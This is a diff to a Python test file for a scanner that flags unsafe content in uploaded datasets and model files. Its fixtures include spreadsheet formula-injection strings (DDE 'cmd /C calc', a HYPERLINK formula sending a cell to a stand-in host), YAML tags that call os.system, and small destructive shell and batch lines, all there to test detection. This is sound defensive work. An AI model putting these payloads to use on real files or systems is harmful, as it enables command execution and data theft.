@@ -1,3 +1,4 @@
+# ruff: noqa: E501 - tables read best with an entry a line
 """Files that could run a program are named whatever they are dressed as; honest ones are not."""
 
 from __future__ import annotations
@@ -244,15 +245,16 @@ def test_when_time_is_over_the_rest_is_unknown_and_not_safe(tmp_path):
 
 # -- the data set -----------------------------------------------------------------------------------------
 FORMULAS = [
-    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"ok")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=IMPORTXML(A1)", "＝1+1", "＋SUM(A1)", "＠SUM(1,1)", "=A1",
-    "=-1+2", '=IMPORTDATA("http://x")', "+1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=(1)", "-A1*2", "+B2+C3",
+    "=1+A1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"ok")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=IMPORTXML(A1)", "＝1+B1", "＋SUM(A1)", "＠SUM(1,1)", "=A1",
+    "=-1+sum(2)", '=IMPORTDATA("http://x")', '="x"&"http://y"', "=DDE(\"cmd\";\"/C calc\";\"x\")", "=(A1)", "-A1*2", "+B2+C3",
     "=sum(a1:a9)",
 ]  # fmt: skip
 HARMLESS = [
     "-5", "+1", "-0.5e-3", "+49 30 1234567", "+1-555-0100", "-", "--", "- a point (in brackets)", "@ada",
     "@ada: see you (soon)", "=)", "==", "=>", "-12%", "-3:0", "- 5 apples", "+", "+++ b/file.py", "a=1+1",
     "'=1+1", "-1/2", "-2024-01-02", "@", "e-mail@x.org", "+/-", "-1.5 to 3", "–5", "-x", "=", "-$5", "+ more",
+    "=5", "= 5", "=1+1", "+1+1", "=(1)", "= 3 apples", "=(", "=D", "=\\frac{1}{2}", "= H2 2024", "=B2B sales", "\t-5",
 ]  # fmt: skip
 
 
@@ -279,8 +281,8 @@ def test_signs_and_numbers_are_no_formulas(tmp_path):
 
 
 def test_a_formula_among_the_column_names_is_named(tmp_path):
-    sample = write_sample(tmp_path, np.zeros((9, 1)), np.arange(9) % 2, rows={"=1+1": list("abcdefghi")})
-    assert unsafe_files.run(sample, Budget(30)).facts["formulas"]["headers"] == ["=1+1"]
+    sample = write_sample(tmp_path, np.zeros((9, 1)), np.arange(9) % 2, rows={"=1+A1": list("abcdefghi")})
+    assert unsafe_files.run(sample, Budget(30)).facts["formulas"]["headers"] == ["=1+A1"]
 
 
 def test_scripts_and_programs_in_a_data_set_are_named(tmp_path):
@@ -318,6 +320,55 @@ def test_the_cells_of_real_tables_are_no_formulas(shared_data, tmp_path):
         prepare([path], [path.name], folder)
         finding = unsafe_files.run(Sample(folder), Budget(30))
         assert finding.facts["faults"] == [], path
+
+
+# -- programs, macros and settings ------------------------------------------------------------------------
+LOOSE = {
+    "a/tool.exe": b"MZ" + bytes(60), "a/run.sh": b"echo hi", "a/start": b"#! /bin/sh\nrm -rf x", "a/helper.py": b"import os",
+    "a/lib": b"\x7fELF" + bytes(60), "a/mac": b"\xce\xfa\xed\xfe" + bytes(60), "a/do.bat": b"@echo off\r\ndel x",
+    "a/pe.bin": b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0",
+    "a/cfg.yaml": b"x: !!python/object/apply:os.system ['id']", "a/notes.txt": b"x: !!python/name:os.system ''",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", LOOSE)
+@pytest.mark.parametrize("zipped", [True, False])
+def test_a_loose_program_in_what_came_as_a_model_is_named_harmful(tmp_path, name, zipped):
+    entries = {"a/model.bin": bytes(99), name: LOOSE[name]}
+    data = artefacts.zipped(entries) if zipped else LOOSE[name]
+    finding = look(tmp_path, data, "upload.zip" if zipped else name.split("/")[1])
+    assert named(finding) == {RUNS}, finding.title
+    (fault,) = finding.facts["faults"]
+    assert (fault["fault"], fault["severity"]) == ("executable_content", "high")
+    assert "not known here" not in finding.note
+
+
+@pytest.mark.parametrize("name", ["book.xlsm", "letter.docm", "renamed.xlsx"])
+def test_macros_of_office_documents_are_named(tmp_path, name):
+    inside = {"[Content_Types].xml": b"<x/>", "xl/workbook.xml": b"<x/>"}
+    quiet = look(tmp_path, artefacts.zipped(inside), name)
+    assert not named(quiet)
+    finding = look(tmp_path, artefacts.zipped({**inside, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), name)
+    assert named(finding) == {RUNS}
+    assert "macros" in finding.note
+    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "_VBA_PROJECT".encode("utf-16-le")
+    assert named(look(tmp_path, old, "old.xls")) == {RUNS}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [b"layers: [1, 2]\nlr: 0.1\n", b"# never write !!python/object/apply here\nlr: 1\n", b"x: !!float 3\ny: !!python/tuple [1, 2]\n"],
+)  # fmt: skip
+def test_plain_settings_are_no_program(tmp_path, text):
+    finding = look(tmp_path, text, "config.yaml")
+    assert not named(finding)
+    assert finding.high == 0
+
+
+def test_code_of_a_scripted_model_and_of_a_data_set_is_left_alone(tmp_path):
+    assert not named(look(tmp_path, artefacts.zipped({"net/code/__torch__.py": b"def f(): pass"}), "net.pt"))
+    readme = artefacts.zipped({"load.py": b"import csv", "run.sh": b"echo", "a.csv": b"a,b\n1,2\n"})
+    assert not named(look(tmp_path, readme, "set.zip", artefact=False))
 
 
 # -- the rest ---------------------------------------------------------------------------------------------
